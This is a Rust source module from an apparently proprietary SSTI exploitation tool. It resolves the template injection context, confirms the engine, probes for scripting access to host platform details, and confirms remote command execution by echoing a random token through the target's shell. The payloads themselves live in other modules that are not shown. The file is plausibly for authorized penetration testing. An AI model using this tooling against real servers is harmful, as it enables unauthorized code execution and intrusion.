// Copyright (c) 2025 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Template Engine Detector
 * Resolves the breakout context, then confirms engine identity, scripting
 * and command execution capability
 *
 * @copyright 2025 Bountyy Oy
 * @license Proprietary
 */

use crate::context::{Context, MAX_NESTING_LEVEL};
use crate::engines::{EngineProfile, Slot};
use crate::errors::{ExploitError, ExploitResult};
use crate::executor::CommandExecutor;
use crate::injector::Injector;
use crate::oracle::InjectionOracle;
use crate::payload::PayloadBuilder;
use crate::tokens::{join_chars, join_pair, random_int};
use serde::Serialize;
use std::sync::Arc;
use tracing::{debug, info, warn};

/// Digits of the token echoed by the exec probe
const EXEC_TOKEN_DIGITS: u32 = 6;

/// What detection established about the injection point.
///
/// Built once per session and read-only afterwards.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ProbeResult {
    pub engine: String,
    pub language: String,
    pub engine_confirmed: bool,
    pub resolved_context: Option<Context>,
    pub scripting_enabled: bool,
    pub exec_enabled: bool,
    /// "<os name>-<platform>" as rendered by the scripting probe
    pub platform: Option<String>,
}

impl ProbeResult {
    pub fn can_read_files(&self) -> bool {
        self.scripting_enabled
    }

    pub fn can_write_files(&self) -> bool {
        self.scripting_enabled
    }
}

pub struct EngineDetector {
    oracle: Arc<dyn InjectionOracle>,
    profile: &'static EngineProfile,
    max_level: u8,
}

impl EngineDetector {
    pub fn new(oracle: Arc<dyn InjectionOracle>, profile: &'static EngineProfile) -> Self {
        Self {
            oracle,
            profile,
            max_level: MAX_NESTING_LEVEL,
        }
    }

    /// Stop context probing after this nesting level
    pub fn with_max_level(mut self, max_level: u8) -> Self {
        self.max_level = max_level;
        self
    }

    /// Resolve the context, then confirm the engine with a join probe.
    ///
    /// Returns an injector bound to the resolved context.
    pub async fn detect_engine(&self) -> ExploitResult<(Injector, Context)> {
        let catalog = self.profile.catalog()?;
        let mut builder = PayloadBuilder::new(self.profile);
        let context = builder
            .resolve_context(self.oracle.as_ref(), &catalog, self.max_level)
            .await?;

        let injector = Injector::new(Arc::clone(&self.oracle), builder);
        let (separator, chars) = join_pair();
        let (expected, observed) = Self::join_probe(&injector, &separator, &chars).await?;

        if observed.as_deref() != Some(expected.as_str()) {
            warn!(
                "[SSTI] {} join probe mismatch: expected {:?}, got {:?}",
                self.profile.name, expected, observed
            );
            return Err(ExploitError::EngineMismatch {
                engine: self.profile.name.to_string(),
                expected,
                observed,
            });
        }

        info!("[SSTI] Engine confirmed: {}", self.profile.name);
        Ok((injector, context))
    }

    /// Ask the engine to join `chars` with `separator`.
    ///
    /// Returns the locally computed join and what the oracle rendered.
    pub async fn join_probe(
        injector: &Injector,
        separator: &str,
        chars: &str,
    ) -> ExploitResult<(String, Option<String>)> {
        let builder = injector.builder();
        let expr = builder.code(
            builder.profile().code.join,
            &[
                ("separator", Slot::Literal(separator)),
                ("chars", Slot::Literal(chars)),
            ],
        );
        let observed = injector.expression(&expr).await?;
        Ok((join_chars(separator, chars), observed))
    }

    /// Read host attributes from a statement block; `Some` when full scripting works
    pub async fn detect_scripting(&self, injector: &Injector) -> ExploitResult<Option<String>> {
        let platform = injector
            .capture(injector.builder().profile().code.platform)
            .await?;

        let plausible = platform.as_deref().and_then(|p| {
            let p = p.trim();
            let (os, plat) = p.split_once('-')?;
            (!os.is_empty() && !plat.is_empty()).then(|| p.to_string())
        });

        match &plausible {
            Some(p) => info!("[SSTI] Scripting enabled, host platform: {}", p),
            None => debug!("[SSTI] Scripting probe rendered {:?}", platform),
        }
        Ok(plausible)
    }

    /// Echo a random number through a shell; confirmed only on an exact match
    pub async fn detect_exec(&self, executor: &CommandExecutor) -> ExploitResult<bool> {
        let token = random_int(EXEC_TOKEN_DIGITS).to_string();
        let output = executor.execute(&format!("echo {}", token)).await?;
        let confirmed = output.trim() == token;

        if confirmed {
            info!("[SSTI] Command execution confirmed");
        } else {
            debug!("[SSTI] Exec probe expected {} got {:?}", token, output);
        }
        Ok(confirmed)
    }

    /// Run the full detection sequence: context, engine, scripting, exec.
    ///
    /// Capability probes that fail at the transport level count as "not
    /// available"; context and engine failures are returned as errors.
    pub async fn probe(&self, probe_exec: bool) -> ExploitResult<(ProbeResult, Injector)> {
        let (injector, context) = self.detect_engine().await?;

        let mut result = ProbeResult {
            engine: self.profile.name.to_string(),
            language: self.profile.language.to_string(),
            engine_confirmed: true,
            resolved_context: Some(context),
            ..Default::default()
        };

        match self.detect_scripting(&injector).await {
            Ok(platform) => {
                result.scripting_enabled = platform.is_some();
                result.platform = platform;
            }
            Err(ExploitError::OracleUnreachable { reason }) => {
                warn!("[SSTI] Scripting probe failed: {}", reason);
            }
            Err(e) => return Err(e),
        }

        if probe_exec && result.scripting_enabled {
            let executor = CommandExecutor::new(injector.clone());
            match self.detect_exec(&executor).await {
                Ok(enabled) => result.exec_enabled = enabled,
                Err(ExploitError::OracleUnreachable { reason }) => {
                    warn!("[SSTI] Exec probe failed: {}", reason);
                }
                Err(e) => return Err(e),
            }
        }

        Ok((result, injector))
    }
}
